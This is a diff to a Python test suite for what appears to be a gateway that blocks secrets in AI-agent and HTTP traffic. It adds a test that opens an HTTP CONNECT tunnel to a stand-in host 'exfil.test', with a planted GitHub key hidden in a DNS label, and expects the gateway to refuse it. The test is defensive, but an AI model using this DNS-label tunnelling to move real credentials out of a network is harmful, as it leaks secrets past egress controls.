@@ -41,7 +41,8 @@ CANARIES = {"aws": AWS, "github": GITHUB, "openai": OPENAI, "email": EMAIL,
 
 
 def forms(value: str) -> list[bytes]:
-    out = {value, quote(value, safe=""), quote(value), value.replace("@", "%40")}
+    out = {value, value.lower(), quote(value, safe=""), quote(value),
+           value.replace("@", "%40")}
     return [f.encode() for f in out]
 
 
@@ -120,13 +121,21 @@ async def calls(base: str) -> dict[str, int]:
         # Refused on the way back: the answer cannot be scanned (closed).
         await go("unscannable", "POST", f"/api/content?note={quote(EMAIL)}",
                  params={"type": "image/png"}, data=f"png {EMAIL}")
+    # A tunnel to a host the policy does not name, with a key in a DNS label.
+    host, port = base.removeprefix("http://").rsplit(":", 1)
+    reader, writer = await asyncio.open_connection(host, int(port))
+    target = f"{GITHUB}.exfil.test:443"
+    writer.write(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    await writer.drain()
+    got["connect"] = int((await asyncio.wait_for(reader.readline(), 10)).split()[1])
+    writer.close()
     return got
 
 
 EXPECTED = {"llm": 200, "mcp": 200, "http": 200, "http-response-pii": 200,
             "secret-body": 403, "secret-path": 403, "secret-query": 403,
             "secret-header": 403, "tool-denied": 200, "tool-unknown": 200, "tool-nul": 200,
-            "too-deep": 400, "method-denied": 403, "unscannable": 503}
+            "too-deep": 400, "method-denied": 403, "unscannable": 503, "connect": 403}
 """MCP refusals are JSON-RPC errors in a 200 answer."""
 
 
@@ -200,8 +209,8 @@ async def test_no_planted_value_is_written_anywhere(
     with psycopg.connect(audit_db.admin) as conn:
         rows = conn.execute("SELECT t::text, code FROM haltgate.audit_records t").fetchall()
     # Two records (intent, outcome) for each of the 5 forwarded calls, one for each of
-    # the 9 refused before forwarding.
-    assert len(rows) == 2 * 5 + 9, len(rows)
+    # the 9 refused before forwarding, one for the refused tunnel.
+    assert len(rows) == 2 * 5 + 9 + 1, len(rows)
     database = "\n".join(r[0] for r in rows).encode()
     objects = {o["Key"]: s3.get_object(Bucket=bucket, Key=o["Key"])["Body"].read()
                for o in s3.list_objects_v2(Bucket=bucket)["Contents"]}
@@ -218,5 +227,5 @@ async def test_no_planted_value_is_written_anywhere(
     # And the refusals are there, each with its code.
     codes = [r[1] for r in rows]
     for code in ("guardrail_secrets", "tool_denied", "tool_not_allowed", "json_too_deep",
-                 "guardrails_unscannable"):
+                 "guardrails_unscannable", "connect_denied"):
         assert code in codes, codes
